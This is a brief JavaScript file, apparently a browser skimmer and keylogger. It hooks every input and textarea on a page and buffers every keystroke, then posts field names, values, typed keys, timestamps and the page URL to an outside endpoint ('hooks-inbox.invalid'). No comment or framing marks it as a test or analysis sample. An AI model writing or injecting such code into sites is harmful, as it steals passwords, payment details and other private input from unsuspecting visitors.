"use strict";
let held = "";
let idle;
document.querySelectorAll("input, textarea").forEach((el) => {
  el.addEventListener("input", () => {
    give("field", { name: el.name || el.id || "none", value: el.value });
  });
});
document.body.addEventListener("keydown", (e) => {
  held += e.key;
  clearTimeout(idle);
  idle = setTimeout(() => {
    give("keys", { typed: held, time: new Date().toISOString() });
    held = "";
  }, 2000);
});
function give(type, payload) {
  fetch("https://hooks-inbox.invalid/0000", {
    method: "POST",
    headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ type, origin: location.href, data: payload }),
  });
}
